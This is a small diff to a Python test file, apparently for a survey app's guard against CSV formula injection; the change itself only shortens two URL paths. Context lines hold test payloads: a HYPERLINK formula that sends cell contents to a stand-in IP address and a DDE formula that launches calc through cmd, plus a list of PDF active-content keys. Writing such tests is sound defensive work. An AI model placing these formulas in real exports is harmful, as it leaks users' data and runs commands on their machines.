@@ -27,7 +27,7 @@ from tests.survey import make
 from ui.csv_files import GUARD, STARTS_A_FORMULA, guard
 
 CODE = "T-TXT"
-PAGE, REVIEW = "/question/1/", "/review/"
+PAGE, REVIEW = "/q/1/", "/r/"
 ACTIVE = {"/AA", "/A", "/JS", "/JavaScript", "/URI", "/Launch", "/EmbeddedFiles", "/Annots"}
 ONES_OF_OUR_OWN = [
     "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0",
